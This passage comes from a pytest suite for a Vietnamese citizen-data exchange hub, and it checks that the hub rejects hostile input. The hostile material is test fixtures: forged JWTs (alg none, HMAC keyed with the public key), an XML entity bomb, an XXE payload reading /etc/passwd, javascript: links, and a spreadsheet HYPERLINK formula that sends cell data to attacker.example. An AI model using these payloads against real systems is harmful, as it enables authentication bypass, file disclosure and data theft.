    claims = jwt.decode(good, options={"verify_signature": False})
    jwks = httpx.get(f"{trust.server.url}/idp/jwks.json").json()

    def part(data: bytes) -> str:
        return base64.urlsafe_b64encode(data).rstrip(b"=").decode()

    def unsigned(alg_claims: dict[str, Any]) -> str:
        head = json.dumps({"alg": "none", "kid": header["kid"]}).encode()
        return f"{part(head)}.{part(json.dumps(alg_claims).encode())}."

    def hmac_signed(alg_claims: dict[str, Any], secret: bytes) -> str:  # the algorithm-confusion attack
        head = json.dumps({"alg": "HS256", "kid": header["kid"]}).encode()
        signing_input = f"{part(head)}.{part(json.dumps(alg_claims).encode())}"
        return f"{signing_input}.{part(hmac.new(secret, signing_input.encode(), hashlib.sha256).digest())}"

    forged_key = ec.generate_private_key(ec.SECP256R1())
    public_jwk = json.dumps(jwks["keys"][0]).encode()
    cases = {
        "no token": (None, "unauthenticated"),
        "expired": (citizen_token(trust, someone["SoDinhDanh"], ttl_seconds=-300), "invalid_token"),
        "for another application": (citizen_token(trust, someone["SoDinhDanh"], audience="other-app"), "invalid_token"),
        "signed with another key": (
            jwt.encode(claims, forged_key, algorithm="ES256", headers={"kid": header["kid"]}),
            "invalid_token",
        ),
        "not signed (alg none)": (unsigned(claims), "invalid_token"),
        "HMAC keyed with the provider's public key": (hmac_signed(claims, public_jwk), "invalid_token"),
        "another issuer": (
            jwt.encode({**claims, "iss": "https://evil.example/idp"}, forged_key, algorithm="ES256"),
            "invalid_token",
        ),
        "no personal ID in it": (citizen_token(trust, "not-a-citizen"), "invalid_token"),
        "a client system's API key": (creds.api_key, "invalid_token"),
        "garbage": ("a.b.c", "invalid_token"),
    }
    for name, (token, code) in cases.items():
        r = my_usage(hub, token)
        assert r.status_code == 401, (name, r.text)
        assert r.headers["content-type"].startswith("application/problem+json") and r.json()["code"] == code, name
        assert someone["SoDinhDanh"] not in r.text
    assert my_usage(hub, good).json()["count"] == 1  # and the real one still works


def test_an_unreachable_identity_provider_is_503_not_401(hub_factory: HubFactory, trust: Trust) -> None:
    with socket.socket() as sock:
        sock.bind(("127.0.0.1", 0))
        closed = sock.getsockname()[1]
    hub = hub_factory(citizen_idp_issuer=f"http://127.0.0.1:{closed}/idp", connect_timeout=0.5)
    r = my_usage(hub, citizen_token(trust, "001099000001"))
    assert r.status_code == 503 and r.json()["code"] == "identity_provider_unavailable", r.text


BOMB = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
<!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">]>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>&lol3;</soap:Body></soap:Envelope>"""
XXE = b"""<?xml version="1.0"?>
<!DOCTYPE x [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>&xxe;</soap:Body></soap:Envelope>"""

HUGE = (  # well-formed, but far larger than any citizen's record: refused before it is parsed
    b'<soap:Envelope xmlns:soap="http://schemas.xmlsoap.org/soap/envelope/"><soap:Body>'
    + b"<!-- padding -->" * 200_000
    + b"</soap:Body></soap:Envelope>"
)


@pytest.mark.parametrize("payload", [BOMB, XXE, HUGE], ids=["entity-bomb", "xxe", "huge"])
def test_hostile_replies_are_refused_at_the_boundary(payload: bytes) -> None:
    from fastapi import FastAPI
    from fastapi.responses import Response

    from hub.adapters.errors import PeerProtocolError
    from hub.adapters.population import CitizenLookup, PopulationClient
    from hub.sandbox.population import wsdl_path

    app = FastAPI()

    @app.post("/ws")
    def hostile() -> Response:
        return Response(payload, media_type="text/xml")

    server = ServerThread(app).start()
    client = PopulationClient(f"{server.url}/ws", wsdl=wsdl_path(), read_timeout=2)
    try:
        with pytest.raises(PeerProtocolError) as exc:
            client.look_up(CitizenLookup("001090000001", "r1", "cb", KHAI_SINH), correlation_id="c", on_exchange=None)
        assert "passwd" not in str(exc.value) and "root:" not in str(exc.value)
        if payload is HUGE:
            assert "larger than" in str(exc.value)
    finally:
        client.close()
        server.stop()


# A reply as the register sends it through a province's LGSP (the shape public integration code parses): the
# collection itself in the Body, the citizen's birth year alone (the day not known), another citizen beside.
AS_SEEN = """<?xml version="1.0" encoding="UTF-8"?>
<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/">
  <soapenv:Header xmlns:dan="http://dancuquocgia.bca"/>
  <soapenv:Body xmlns:dan="http://dancuquocgia.bca">
    <ns1:CongdanCollection xmlns:ns1="http://www.mic.gov.vn/dancu/1.0">
      <ns1:CongDan>
        <ns1:SoDinhDanh>001090000001</ns1:SoDinhDanh>
        <ns1:HoVaTen><ns1:Ho>Nguyễn</ns1:Ho><ns1:ChuDem>Văn</ns1:ChuDem><ns1:Ten>An</ns1:Ten></ns1:HoVaTen>
        <ns1:GioiTinh>1</ns1:GioiTinh>
        <ns1:NgayThangNamSinh><ns1:Nam>1990</ns1:Nam></ns1:NgayThangNamSinh>
        <ns1:NoiOHienTai>
          <ns1:MaTinhThanh>01</ns1:MaTinhThanh><ns1:ChiTiet>Số 1 Tràng Tiền</ns1:ChiTiet>
        </ns1:NoiOHienTai>
      </ns1:CongDan>
      <ns1:CongDan><ns1:SoDinhDanh>001090000002</ns1:SoDinhDanh></ns1:CongDan>
    </ns1:CongdanCollection>
  </soapenv:Body>
</soapenv:Envelope>""".encode()


def test_a_reply_shaped_as_the_register_sends_it_is_read_and_a_year_alone_fills_no_date() -> None:
    """The register's reply carries no wrapper and no MaYeuCau; its birth date may be the year alone. The adapter
    takes the record of the ID it asked for (not another in the collection), and a date field is left to the
    citizen rather than filled with a day that is not known."""
    from fastapi import FastAPI
    from fastapi.responses import Response
    from lxml import etree

    from hub.adapters.population import CitizenLookup, PopulationClient
    from hub.sandbox.population import wsdl_path
    from hub.services.prefill import _format

    seen: list[bytes] = []
    headers: list[dict[str, str]] = []
    app = FastAPI()

    @app.post("/ws")
    async def register(request: StarletteRequest) -> Response:
        seen.append(await request.body())
        headers.append(dict(request.headers))
        return Response(AS_SEEN, media_type="text/xml; charset=utf-8")

    server = ServerThread(app).start()
    on_ndxp = {"X-Road-Client": "VN/GOV/000.00.00.H29/HUB", "ApiKey": "k-123"}
    client = PopulationClient(f"{server.url}/ws", wsdl=wsdl_path(), read_timeout=2, integration="037", headers=on_ndxp)
    try:
        query = CitizenLookup(
            "001090000001", "r1", "cb", KHAI_SINH, full_name="Nguyễn Văn An", birth_date="19900101",
            agency="000.00.17.H56",
        )  # fmt: skip
        record = client.look_up(query, correlation_id="c")
    finally:
        client.close()
        server.stop()
    assert record is not None and record["SoDinhDanh"] == "001090000001"
    assert record["HoVaTen"] == {"Ho": "Nguyễn", "ChuDem": "Văn", "Ten": "An"}
    assert record["NgayThangNamSinh"] == {"Nam": "1990"}
    assert _format("date", record["NgayThangNamSinh"]) is None  # the day is not known: nothing invented
    assert _format("date", {"NgayThangNam": "19900101", "Nam": "1990"}) == "1990-01-01"
    # what hub sent, as the register takes it: its namespace, the integration's code, the birth date's element
    sent = etree.fromstring(seen[0])
    op = sent.find(".//{http://dancuquocgia.bca}TraCuuThongTinCongDan")
    assert op is not None and op.findtext("{http://dancuquocgia.bca}MaTichHop") == "037"
    born = op.find("{http://dancuquocgia.bca}NgayThangNamSinh")
    assert born is not None and born.findtext("{http://dancuquocgia.bca}NgayThangNam") == "19900101"
    assert op.findtext("{http://dancuquocgia.bca}MaDonVi") == "000.00.17.H56"  # the agency the officer asks for
    # as a newer integration sends it: an empty SOAPAction, hub's identifier on the data-exchange platform
    assert headers[0]["soapaction"] == '""'
    assert headers[0]["x-road-client"] == "VN/GOV/000.00.00.H29/HUB" and headers[0]["apikey"] == "k-123"


@pytest.mark.parametrize("drops", [1, 2])
def test_a_connection_the_register_closes_without_answering_is_tried_once_more(drops: int) -> None:
    """A kept-alive connection the register (or the LGSP before it) closed as hub reused it ends "without
    response": the look-up never reached it. hub asks once more on a fresh connection, signed afresh; a register
    that drops it again is unavailable — a citizen's form is not refused for one stale socket."""
    from hub.adapters.errors import PeerUnavailable
    from hub.adapters.population import CitizenLookup, PopulationClient
    from hub.adapters.population.client import Credentials
    from hub.sandbox.population import wsdl_path
    from tests.helpers import dropping_peer

    query = CitizenLookup("001090000001", "r1", "cb", KHAI_SINH)
    with dropping_peer(drops, b"text/xml; charset=utf-8", AS_SEEN) as (url, requests):
        address = f"{url}/ws"
        client = PopulationClient(
            address, wsdl=wsdl_path(), read_timeout=3, credentials=Credentials("hub", "s3cret", address)
        )
        try:
            if drops == 1:
                record = client.look_up(query, correlation_id="c")
                assert record is not None and record["SoDinhDanh"] == "001090000001"
            else:
                with pytest.raises(PeerUnavailable):
                    client.look_up(query, correlation_id="c")
        finally:
            client.close()
    assert len(requests) == 2  # twice, not more
    assert all(b"authorization: basic" in r.lower() and b"timestamp:" in r.lower() for r in requests)


def test_hub_signs_in_to_a_register_that_requires_it_and_a_refusal_is_an_authorization_failure(
    hub_factory: HubFactory,
) -> None:
    """The register (through the province's LGSP) takes a request signed in: HTTP Basic, the password SHA-256 of
    the service URL, the username, the request's Unix time and the secret, that time in a `timestamp` header. hub
    signs every look-up so; a wrong secret or an old signature is refused (401), which hub reports as the register
    refusing its credentials — not as a citizen not found."""
    from dataclasses import replace

    import httpx as _httpx
    from pydantic import SecretStr

    from hub.adapters.errors import PeerAuthFailed
    from hub.adapters.population import CitizenLookup, PopulationClient
    from hub.adapters.population.client import Credentials, sign_in_headers
    from hub.sandbox import population

    state = population.PopulationState()
    service_url = "https://lgsp.example.gov.vn/dancu"
    server = ServerThread(population.create_app(state, credentials=("hub-hcm", "s3cret", service_url))).start()
    url = f"{server.url}/ws/congdan"
    sid = next(iter(state.population.records))
    query = CitizenLookup(sid, "r1", "cb", KHAI_SINH)
    signed = Credentials("hub-hcm", "s3cret", service_url)
    try:
        good = PopulationClient(url, wsdl=population.wsdl_path(), credentials=signed)
        assert good.look_up(query, correlation_id="c")["SoDinhDanh"] == sid
        good.close()
        for wrong in (Credentials("hub-hcm", "not-it", service_url), Credentials("other", "s3cret", service_url), None):
            client = PopulationClient(url, wsdl=population.wsdl_path(), credentials=wrong)
            with pytest.raises(PeerAuthFailed) as refused:
                client.look_up(query, correlation_id="c")
            assert refused.value.code == "population_not_authorized"
            client.close()
        # the time in milliseconds, as a newer integration signs it, is taken alike
        in_ms = PopulationClient(url, wsdl=population.wsdl_path(), credentials=replace(signed, millis=True))
        assert in_ms.look_up(query, correlation_id="c")["SoDinhDanh"] == sid
        in_ms.close()
        # a signature replayed ten minutes later is refused, in seconds or in milliseconds
        for stale_at in (int(time.time()) - 600, int(time.time() * 1000) - 600_000):
            stale = sign_in_headers("hub-hcm", "s3cret", service_url, stale_at)
            r = _httpx.post(url, content=b"<x/>", headers={**stale, "Content-Type": "text/xml"})
            assert r.status_code == 401
        # and through hub: its settings sign every look-up in
        hub = hub_factory(
            population_url=url,
            population_username="hub-hcm",
            population_secret=SecretStr("s3cret"),
            population_service_url=service_url,
            population_timestamp_unit="ms",
        )
        assert ask(hub, sid).status_code == 200
    finally:
        server.stop()


@pytest.mark.parametrize("payload", [BOMB, XXE, b"<unclosed", b"x" * 70_000])
def test_the_sandbox_refuses_hostile_requests_with_a_fault(people: httpx.Client, payload: bytes) -> None:
    r = people.post("/ws/congdan", content=payload, headers={"Content-Type": "text/xml"})
    assert r.status_code in (400, 413)
    assert b"Fault" in r.content and b"root:" not in r.content


def test_the_sandbox_answers_a_soap_1_2_client_with_a_version_mismatch(people: httpx.Client) -> None:
    """The WSDL binds SOAP 1.1: a client set up for SOAP 1.2 (a Java or .NET stack's default) is told its envelope's
    version is the problem (SOAP 1.1 §4.4.1), not that the operation does not exist."""
    ns = "http://dancuquocgia.bca"
    op = (f'<c:TraCuuThongTinCongDan xmlns:c="{ns}"><c:MaYeuCau>r</c:MaYeuCau><c:MaDVC>{KHAI_SINH}</c:MaDVC>'
          f"<c:MaCanBo>cb</c:MaCanBo><c:SoDinhDanh>001090000001</c:SoDinhDanh></c:TraCuuThongTinCongDan>")  # fmt: skip
    soap12 = f'<e:Envelope xmlns:e="http://www.w3.org/2003/05/soap-envelope"><e:Body>{op}</e:Body></e:Envelope>'
    r = people.post("/ws/congdan", content=soap12, headers={"Content-Type": "application/soap+xml"})
    assert r.status_code == 500 and b"<faultcode>soap:VersionMismatch</faultcode>" in r.content, r.text
    bare = people.post("/ws/congdan", content=op, headers={"Content-Type": "text/xml"})  # no envelope at all
    assert bare.status_code == 400 and b"<faultcode>soap:Client</faultcode>" in bare.content, bare.text


def test_cached_replies_are_shared_through_the_database_and_expire_everywhere(hub: Hub) -> None:
    """Two processes' caches over one database: what one keeps, the other reads; each keeps its own copy in
    memory, which expires with the shared row."""
    import time

    from sqlalchemy import delete

    from hub.domain.dates import utcnow
    from hub.services.population_cache import PopulationCache
    from hub.store import db
    from hub.store.models import PopulationCacheEntry

    secret = hub.settings.secret_key.get_secret_value().encode() if hub.settings.secret_key else b""
    one, other = (PopulationCache(hub.runtime.sessions, secret, timedelta(seconds=1)) for _ in range(2))
    key = one.key("001090000001", None, None, "onestop-hcm")
    with db.raw_transaction(hub.runtime.engine) as tx:
        one.put_many(tx, [(key, {"SoDinhDanh": "001090000001"}, utcnow())])
    assert (other.get(key) or ({}, None))[0] == {"SoDinhDanh": "001090000001"}  # read from the shared row
    with hub.runtime.sessions.begin() as s:
        s.execute(delete(PopulationCacheEntry))
    assert (other.get(key) or ({}, None))[0] == {"SoDinhDanh": "001090000001"}  # its own copy, no round trip
    time.sleep(1.1)
    assert one.get(key) is None and other.get(key) is None  # expired in memory as in the database


def test_replies_are_cached_encrypted_and_still_logged(hub: Hub, people: httpx.Client) -> None:
    from hub.store.models import PopulationCacheEntry

    father = married(people, "1")
    first = ask(hub, father["SoDinhDanh"]).json()
    received = people.get("/_sandbox/received").json()
    asked = received["count"]
    # the register is told who asks: the officer, the agency they ask for, the procedure
    assert received["items"][-1]["body"] == {"MaCanBo": "cb-0042", "MaDonVi": AGENCY, "MaDVC": KHAI_SINH}
    second = ask(hub, father["SoDinhDanh"]).json()
    assert people.get("/_sandbox/received").json()["count"] == asked  # the register was not asked again
    one, two = fields(first)["me.ho_ten"], fields(second)["me.ho_ten"]
    assert one["value"] == two["value"] and one["fetched_at"] == two["fetched_at"]  # provenance stays true
    assert two["source"]["cached"] is True and one["source"]["cached"] is False
    entries = log_entries(hub)
    assert [e.outcome for e in entries] == ["allowed"] * 4  # every access is logged, cached or not
    assert entries[-1].reason == "served from the cache"
    with hub.runtime.sessions() as s:
        rows = s.scalars(select(PopulationCacheEntry)).all()
    assert len(rows) == 2
    for row in rows:  # encrypted, keyed by an HMAC: neither the ID nor the name is readable
        assert father["SoDinhDanh"].encode() not in row.ciphertext and father["SoDinhDanh"] not in row.key
        assert father["HoVaTen"]["Ten"].encode() not in row.ciphertext
    with hub.runtime.sessions.begin() as s:  # a tampered entry is a miss, never a wrong answer
        for row in s.scalars(select(PopulationCacheEntry)):
            row.ciphertext = row.ciphertext[:-1] + bytes([row.ciphertext[-1] ^ 1])
    # this process still holds its own untouched copies in memory; another process (or this one restarted)
    # reads the shared rows
    assert fields(ask(hub, father["SoDinhDanh"]).json())["me.ho_ten"]["source"]["cached"] is True
    hub.runtime.prefill.cache.forget_local()  # type: ignore[union-attr]
    third = ask(hub, father["SoDinhDanh"]).json()
    assert fields(third)["me.ho_ten"]["source"]["cached"] is False
    assert people.get("/_sandbox/received").json()["count"] > asked


def test_a_clients_cache_tells_another_client_nothing(hub: Hub, people: httpx.Client, creds: Creds) -> None:
    """Two client systems read the same citizen a moment apart: the second is not served from the first one's
    cached reply — it would learn that someone read this citizen, when (`fetched_at`) and under which request id —
    but from the register, as the first was; each client's own repeat is served from its own cache."""
    someone = person(people)["SoDinhDanh"]

    def read(key: str, agency: str, purpose: str) -> dict[str, Any]:
        r = hub.http.post(
            "/v1/prefill",
            headers={"X-API-Key": key},
            json={"procedure": "1.004873", "subject_id": someone, "purpose": purpose,
                  "requested_by": {"officer": "cb-7", "agency": agency}},
        )  # fmt: skip
        assert r.status_code == 200, r.text
        source: dict[str, Any] = next(f for f in r.json()["fields"] if f["value"] is not None)["source"]
        return source

    mine = read(creds.api_key, AGENCY, PURPOSE)
    theirs = read(creds.other_key, OTHER_AGENCY, "marriage_registration")
    assert (mine["cached"], theirs["cached"]) == (False, False) and theirs["request_id"] != mine["request_id"]
    assert people.get("/_sandbox/received").json()["count"] == 2
    again = read(creds.other_key, OTHER_AGENCY, "marriage_registration")
    assert again["cached"] is True and again["request_id"] == theirs["request_id"]
    assert read(creds.api_key, AGENCY, PURPOSE)["request_id"] == mine["request_id"]
    assert people.get("/_sandbox/received").json()["count"] == 2


def test_reads_from_the_cache_and_from_the_register_make_one_chain(hub: Hub, people: httpx.Client) -> None:
    """A pre-fill from the cache logs through prebuilt SQL on a pooled connection, one that asked the register
    through the ORM session with its exchange records: both append to the same chain, which verifies whole, and
    read back the same (time, fields)."""
    someone = people.get("/_sandbox/people", params={"limit": 3}).json()["items"]
    for p in someone:  # cold, warm, cold, warm, ...
        assert ask(hub, p["SoDinhDanh"], "1.004873").status_code == 200
        assert ask(hub, p["SoDinhDanh"], "1.004873").status_code == 200
    entries = log_entries(hub)
    assert [e.reason for e in entries] == [None, "served from the cache"] * 3
    assert all(e.at.tzinfo is not None and e.fields and e.fields == sorted(e.fields) for e in entries)
    assert entries[0].fields == entries[1].fields
    assert all(b.prev_hash == a.chain_hash for a, b in itertools.pairwise(entries))
    assert chain(hub).as_dict() | {"head": None} == {
        "intact": True,
        "checked": 6,
        "broken_at": None,
        "problem": None,
        "head": None,
    }


@pytest.mark.parametrize("backend", ["sqlite"])
def test_a_cached_read_waits_for_another_writer_without_stopping_the_api(
    hub: Hub, people: httpx.Client, backend: str
) -> None:
    """Embedded mode: a read from the cache logs its access on the event loop itself when SQLite's write lock is
    free (ADR 0018). When another writer holds the lock — a `hub` command, a backup, the relay — the entry goes to
    the group-commit thread, which waits for the lock: the pre-fill answers once its entry is committed, and the
    API answers other requests meanwhile."""
    import sqlite3
    import threading
    import time

    from hub.store import db

    subject = person(people)["SoDinhDanh"]
    assert ask(hub, subject, "1.004873").status_code == 200  # now in the cache
    path = db.sqlite_path(hub.settings.effective_database_url)
    assert path is not None
    other = sqlite3.connect(path, isolation_level=None)
    other.execute("BEGIN IMMEDIATE")  # another process's write transaction
    replies: list[httpx.Response] = []
    asking = threading.Thread(target=lambda: replies.append(ask(hub, subject, "1.004873")))
    asking.start()
    try:
        time.sleep(0.5)
        assert not replies  # its access is not on record yet, so its answer has not left
        started = time.monotonic()
        assert hub.http.get("/healthz").status_code == 200
        assert time.monotonic() - started < 0.5  # the event loop was not waiting for the lock
    finally:
        other.execute("COMMIT")
        other.close()
    asking.join(timeout=10)
    assert replies and replies[0].status_code == 200, replies
    assert fields(replies[0].json())["nguoi_yeu_cau.ho_ten"]["source"]["cached"] is True
    assert [e.reason for e in log_entries(hub)] == [None, "served from the cache"]
    assert ask(hub, subject, "1.004873").status_code == 200  # the lock is free again: on the loop
    assert (chain(hub).intact, chain(hub).checked) == (True, 3)


@pytest.mark.parametrize("backend", ["postgresql"])
def test_a_cached_read_whose_log_cannot_be_written_answers_503_and_leaks_nothing(
    hub_factory: HubFactory, population_server: ServerThread, people: httpx.Client, backend: str
) -> None:
    """The database drops hub's connections between two reads of a citizen: the second, from the cache, cannot
    log its access, so it answers 503 `database_unavailable` without the form; the next one succeeds on a new
    connection and the chain holds exactly the accesses that were answered."""
    from tests.test_store import kill_connections

    # no embedded worker: its next poll would meet a dropped connection first and renew the pool before the read
    hub = hub_factory(population_url=f"{population_server.url}/ws/congdan", start_worker=False)

    subject = person(people)["SoDinhDanh"]
    assert ask(hub, subject, "1.004873").status_code == 200
    assert kill_connections(hub.settings.database_url) >= 1
    r = ask(hub, subject, "1.004873")
    assert r.status_code == 503, r.text
    assert r.json()["code"] == "database_unavailable" and subject not in r.text and "fields" not in r.json()
    again = ask(hub, subject, "1.004873")
    assert again.status_code == 200 and fields(again.json())["nguoi_yeu_cau.ho_ten"]["source"]["cached"] is True
    entries = log_entries(hub)
    assert [e.reason for e in entries] == [None, "served from the cache"]
    assert chain(hub).intact


def test_a_request_half_in_the_cache_asks_the_register_once_and_logs_each_read_once(
    hub: Hub, people: httpx.Client
) -> None:
    """The applicant is in hub's cache from an earlier form, her husband is not: the birth registration takes her
    record from the cache and asks the register for him only, and the access log holds one entry per read — no
    trace of the first, non-blocking attempt that stopped at the missing husband."""
    mother = married(people, "2")
    assert ask(hub, mother["SoDinhDanh"], "1.004873").status_code == 200  # her marital status: her record only
    asked = people.get("/_sandbox/received").json()["count"]
    reply = ask(hub, mother["SoDinhDanh"])
    assert reply.status_code == 200, reply.text
    assert people.get("/_sandbox/received").json()["count"] == asked + 1  # the husband, once
    cached = {f["source"]["record"]: f["source"]["cached"] for f in reply.json()["fields"] if f.get("source")}
    assert cached == {"subject": True, "spouse": False}
    entries = log_entries(hub)
    assert [(e.procedure, e.subject_role, e.outcome) for e in entries] == [
        ("1.004873", "subject", "allowed"),
        (KHAI_SINH, "subject", "allowed"),
        (KHAI_SINH, "spouse", "allowed"),
    ]
    assert entries[1].reason == "served from the cache" and entries[2].reason is None


def test_concurrent_requests_for_the_same_citizen_all_succeed_and_chain(hub: Hub, people: httpx.Client) -> None:
    """Officers ask for the same couple at once, some as the husband and some as the wife (the two cache rows
    are written crosswise): every answer is 200 — no duplicate key, no deadlock — and the access log stays one
    unbroken chain."""
    from concurrent.futures import ThreadPoolExecutor

    from hub.services.audit import AccessLog

    father = married(people, "1")
    couple = [father["SoDinhDanh"], father["VoChong"]["SoDinhDanh"]]
    with ThreadPoolExecutor(8) as pool:
        replies = list(pool.map(lambda i: ask(hub, couple[i % 2]), range(8)))
    assert [r.status_code for r in replies] == [200] * 8, [r.text for r in replies if r.status_code != 200]
    assert len({fields(r.json())["me.ho_ten"]["value"] for r in replies}) == 1
    entries = log_entries(hub)
    assert len(entries) == 16 and all(e.outcome == "allowed" for e in entries)  # applicant + spouse, 8 times
    secret = hub.settings.secret_key.get_secret_value().encode() if hub.settings.secret_key else b""
    with hub.runtime.sessions() as s:
        assert AccessLog(secret).verify(s).intact


def test_results_issued_with_dossiers_are_offered_for_reuse(hub: Hub, people: httpx.Client) -> None:
    from tests.helpers import dossier as make

    father = married(people, "1")
    issued = {
        "LoaiGiayTo": "giay_chung_nhan_ket_hon",
        "TenGiayTo": "Giấy chứng nhận kết hôn",
        "SoHieu": "05/2020/KH",
        "NgayCap": "20200105090000",
        "DuongDanTaiLieu": "https://motcua.example/ket-qua/05-2020-KH.pdf",
    }
    d = make(31, status=2, SoGiayToChuHoSo=father["SoDinhDanh"], DanhSachGiayToKetQua=[issued, {"GhiChu": "x"}])
    assert hub.http.post("/v1/dossiers", json=d).status_code == 202
    assert hub.http.post("/v1/dossiers", json=d, headers={"Idempotency-Key": "again"}).status_code in (202, 409)
    ref = hub.http.post(
        "/v1/consents", json={"subject_id": father["SoDinhDanh"], "purpose": PURPOSE, "scope": ["documents"]}
    ).json()["consent_ref"]
    answer = ask(hub, father["SoDinhDanh"], consent_ref=ref)
    assert answer.status_code == 200, answer.text
    offered = answer.json()["documents"]
    assert [(o["number"], o["dossier_code"]) for o in offered] == [("05/2020/KH", d["MaHoSo"])]
    assert offered[0]["reference"].endswith("05-2020-KH.pdf")
    # a result whose link would run a script in the portal's page: offered, pointing at its dossier instead
    scripted = {**issued, "SoHieu": "06/2021/KH", "NgayCap": "20210105090000", "DuongDanTaiLieu": "java\tscript:x()"}
    d2 = make(32, status=2, SoGiayToChuHoSo=father["SoDinhDanh"], DanhSachGiayToKetQua=[scripted])
    assert hub.http.post("/v1/dossiers", json=d2).status_code == 202
    links = {o["number"]: o["reference"] for o in ask(hub, father["SoDinhDanh"], consent_ref=ref).json()["documents"]}
    assert links["06/2021/KH"] == f"dossier:{d2['MaHoSo']}"
    # and one indexed directly with such a reference is refused, nothing stored
    for bad in ("javascript:alert(1)", "JaVa\tScRipt:alert(1)", "data:text/html,<script>x</script>"):
        r = hub.http.post(
            "/v1/documents",
            json={"holder_id": father["SoDinhDanh"], "kind": "giay_chung_nhan_ket_hon", "title": "x", "number": "07",
                  "issuer": AGENCY, "issued_at": "2024-01-01T00:00:00+07:00", "reference": bad},
        )  # fmt: skip
        assert r.status_code == 422 and r.json()["code"] == "validation_error", r.text


@pytest.mark.parametrize("backend", ["postgresql"])  # the command line reads the log alike on both (13 runs of it)
def test_audit_export_for_an_inspection_is_checkable_later(
    hub: Hub, people: httpx.Client, creds: Creds, tmp_path: Path, backend: str
) -> None:
    """An inspector asks for one agency's reads: the export holds them, with no personal ID in clear, and the
    file can be checked later without the database — an edited line is caught."""
    items = people.get("/_sandbox/people", params={"limit": 3}).json()["items"]
    for p in items:
        assert ask(hub, p["SoDinhDanh"], "1.004873").status_code == 200
    refused = {"X-API-Key": creds.other_key}  # may not pre-fill for AGENCY: a refused read, logged too
    assert ask_with(hub, items[0]["SoDinhDanh"], refused).status_code == 403
    env = {
        "PATH": str(Path(sys.executable).parent),
        "HUB_VAR_DIR": str(tmp_path),
        "HUB_DATABASE_URL": hub.settings.effective_database_url,
        "HUB_SECRET_KEY": creds.secret_key,
    }

    def hub_cli(*args: str, key: str = creds.secret_key) -> subprocess.CompletedProcess[str]:
        return subprocess.run(
            [HUB_BIN, "audit", *args], check=False, env={**env, "HUB_SECRET_KEY": key}, capture_output=True,
            text=True, timeout=60,
        )  # fmt: skip

    whole, mine = tmp_path / "all.jsonl", tmp_path / "agency.jsonl"
    assert hub_cli("export", "--out", str(whole)).returncode == 0
    done = hub_cli("export", "--out", str(mine), "--agency", AGENCY, "--client", "onestop-hcm", "--since", "2020-01-01")
    assert done.returncode == 0, done.stderr
    lines = [json.loads(line) for line in mine.read_text(encoding="utf-8").splitlines()]
    assert len(lines) == 3 and {e["client"] for e in lines} == {"onestop-hcm"}
    assert {e["outcome"] for e in lines} == {"allowed"} and all(e["fields"] for e in lines)
    text_out = mine.read_text(encoding="utf-8") + whole.read_text(encoding="utf-8")
    assert not any(p["SoDinhDanh"] in text_out for p in items)  # subjects as HMACs only
    assert len(whole.read_text(encoding="utf-8").splitlines()) == 4  # the refused read is in the whole log
    for f in (whole, mine):
        checked = hub_cli("verify", "--file", str(f), "--json")
        assert checked.returncode == 0 and json.loads(checked.stdout)["intact"], checked.stdout + checked.stderr
    # someone edits the purpose of one read in the archived file: caught, and so is a file checked with another key
    edited = [json.loads(line) for line in whole.read_text(encoding="utf-8").splitlines()]
    edited[1]["purpose"] = "something else"
    forged = tmp_path / "edited.jsonl"
    forged.write_text("".join(json.dumps(e, ensure_ascii=False) + "\n" for e in edited), encoding="utf-8")
    caught = hub_cli("verify", "--file", str(forged), "--json")
    assert caught.returncode == 1 and json.loads(caught.stdout)["broken_at"] == edited[1]["id"]
    edited[1]["purpose"] = json.loads(whole.read_text(encoding="utf-8").splitlines()[1])["purpose"]
    edited[1]["chain_hash"] = "é" * 64  # a hash no hub wrote, with characters a digest never has: caught, no crash
    forged.write_text("".join(json.dumps(e, ensure_ascii=False) + "\n" for e in edited), encoding="utf-8")
    caught = hub_cli("verify", "--file", str(forged), "--json")
    assert caught.returncode == 1 and "Traceback" not in caught.stderr, caught.stderr
    assert hub_cli("verify", "--file", str(whole), key="y" * 40).returncode == 1
    garbage = tmp_path / "garbage.jsonl"
    garbage.write_bytes(b"\xff\xfe not json\n")
    assert hub_cli("verify", "--file", str(garbage)).returncode == 2  # unreadable: said so, no traceback
    garbage.write_text("[1, 2]\n", encoding="utf-8")
    assert hub_cli("verify", "--file", str(garbage)).returncode == 1  # not an exported entry: not intact
    assert hub_cli("export", "--out", str(tmp_path / "x.jsonl"), "--since", "yesterday").returncode == 2
    nowhere = hub_cli("export", "--out", str(tmp_path / "no-such-folder" / "x.jsonl"))
    assert nowhere.returncode == 2 and "cannot write" in nowhere.stderr and "Traceback" not in nowhere.stderr
    garbage.write_bytes(b"[" * 3000 + b"]" * 3000 + b"\n")  # nested past the JSON parser's recursion
    deep = hub_cli("verify", "--file", str(garbage))
    assert deep.returncode == 2 and "Traceback" not in deep.stderr
    sheet = tmp_path / "agency.csv"
    assert hub_cli("export", "--out", str(sheet), "--agency", AGENCY, "--csv").returncode == 0
    rows = list(csv.DictReader(sheet.open(encoding="utf-8")))
    assert len(rows) == 4 and rows[0]["chain_hash"] == edited[0]["chain_hash"] and rows[0]["officer"] == "cb-0042"
    # a client system names its officer as a spreadsheet formula: the inspector's spreadsheet shows it as text
    trap = '=HYPERLINK("http://attacker.example/?"&A1,"Xem")'
    r = hub.http.post(
        "/v1/prefill",
        json={"procedure": "1.004873", "subject_id": items[1]["SoDinhDanh"], "purpose": PURPOSE,
              "requested_by": {"officer": trap, "agency": AGENCY}},
    )  # fmt: skip
    assert r.status_code == 200, r.text
    assert hub_cli("export", "--out", str(sheet), "--agency", AGENCY, "--csv").returncode == 0
    officers = [row["officer"] for row in csv.DictReader(sheet.open(encoding="utf-8"))]
    assert officers[-1] == "'" + trap and officers[0] == "cb-0042"
    whole = tmp_path / "whole.jsonl"  # the checkable export keeps what was logged, as logged
    assert hub_cli("export", "--out", str(whole)).returncode == 0
    assert json.loads(whole.read_text(encoding="utf-8").splitlines()[-1])["officer"] == trap


def ask_with(hub: Hub, subject_id: str, headers: dict[str, str]) -> httpx.Response:
    body = {
        "procedure": "1.004873",
        "subject_id": subject_id,
        "purpose": PURPOSE,
